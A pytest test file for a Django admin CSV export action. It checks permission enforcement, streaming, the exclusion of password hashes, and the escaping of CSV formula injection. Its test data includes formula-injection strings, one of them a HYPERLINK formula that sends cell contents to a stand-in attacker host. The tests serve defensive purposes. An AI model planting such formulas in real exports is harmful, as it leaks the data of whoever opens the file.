""" "Export selected as CSV": one shared admin action (core.admin.export_as_csv) on every
changelist staff use; cells escaped against CSV injection; no secrets; streamed."""

import csv
import io
from decimal import Decimal

import pytest
from django.contrib import admin
from django.http import StreamingHttpResponse
from django.test import RequestFactory
from django.urls import reverse
from django.utils import timezone

from activity.models import ActivityPeriod
from carbon.models import Usage, UsageType
from core.admin import CSV_SECRET_FIELDS, csv_columns, export_as_csv
from core.csv import csv_cell
from inventory.models import Customer, Invoice, Item
from members.models import User
from randomdata.models import Address, CreditCard, IngestionRun, RandomUser
from tests.carbon.factories import UsageFactory
from tests.inventory.factories import CustomerFactory
from tests.members.factories import UserFactory

pytestmark = pytest.mark.django_db

EXPORTED_MODELS = [
    User,
    ActivityPeriod,
    UsageType,
    Usage,
    Item,
    Customer,
    Invoice,
    RandomUser,
    Address,
    CreditCard,
    IngestionRun,
]


def changelist(model) -> str:
    return reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist")


def export(client, model, objects, **extra):
    """The POST the changelist's action form sends."""
    data = {"action": "export_as_csv", "_selected_action": [obj.pk for obj in objects], **extra}
    return client.post(changelist(model), data)


def rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


@pytest.fixture
def customer_viewer(client):
    client.force_login(UserFactory(is_staff=True, permissions=["inventory.view_customer"]))
    return client


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        (Decimal("-3.50"), "-3.50"),  # a number is never a formula
        (-3, "-3"),
        (None, ""),
        (True, "True"),
    ],
)
def test_cells_that_look_like_formulas_get_an_apostrophe(value, cell):
    assert csv_cell(value) == cell


def test_export_streams_a_csv_named_after_the_model_and_date(customer_viewer):
    plain = CustomerFactory(name="Zoë Ñandú 東京", email="zoe@example.com")
    formula = CustomerFactory(name='=HYPERLINK("http://evil.example/?x="&A1,"click")')
    CustomerFactory(name="Not selected")

    response = export(customer_viewer, Customer, [plain, formula])

    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="customer-{today}.csv"'
    header, *body = rows(response)
    assert header == ["Name", "Phone", "Email", "Created at"]
    # In the changelist's order (by name: "=" sorts before "Z"). A phone's "+" also starts
    # a formula to a spreadsheet, so E.164 numbers carry the apostrophe too.
    assert body == [
        ["'" + formula.name, "'" + formula.phone, formula.email, formula.created_at.isoformat()],
        ["Zoë Ñandú 東京", "'" + plain.phone, "zoe@example.com", plain.created_at.isoformat()],
    ]


def test_export_is_refused_to_staff_without_view_permission(client):
    customer = CustomerFactory()
    client.force_login(UserFactory(is_staff=True, permissions=["inventory.view_item"]))

    response = export(client, Customer, [customer])

    assert response.status_code == 403
    assert not isinstance(response, StreamingHttpResponse)


def test_export_is_offered_only_with_view_permission(client):
    # Delete permission alone does not open the changelist, so the action is never reached.
    client.force_login(UserFactory(is_staff=True, permissions=["inventory.delete_customer"]))
    assert export(client, Customer, [CustomerFactory()]).status_code == 403


def test_a_large_selection_is_streamed_without_a_query_per_row(
    client, django_assert_max_num_queries
):
    UsageFactory.create_batch(20)
    client.force_login(UserFactory(is_staff=True, permissions=["carbon.view_usage"]))

    with django_assert_max_num_queries(12):
        response = client.post(
            changelist(Usage),
            {"action": "export_as_csv", "select_across": "1", "_selected_action": ["0"]},
        )
        header, *body = rows(response)

    assert header == ["ID", "User", "Usage type", "Usage at", "Amount", "Factor", "Co2e kg"]
    assert len(body) == 20


@pytest.mark.parametrize("model", EXPORTED_MODELS)
def test_every_staff_changelist_offers_the_one_export_action(model):
    model_admin = admin.site._registry[model]
    request = RequestFactory().get("/")
    request.user = UserFactory(is_staff=True, is_superuser=True)
    actions = model_admin.get_actions(request)

    assert actions["export_as_csv"][0] is export_as_csv
    columns = [name for name in csv_columns(model_admin, request) if isinstance(name, str)]
    assert not CSV_SECRET_FIELDS & set(columns)


def test_a_member_export_never_holds_a_password_hash(superuser_client, superuser):
    member = UserFactory(real_name="Zoë")

    response = export(superuser_client, User, [member, superuser])
    text = b"".join(response.streaming_content).decode("utf-8-sig")

    assert member.username in text
    assert "Zoë" in text
    assert member.password not in text
    assert "pbkdf2" not in text and "argon2" not in text
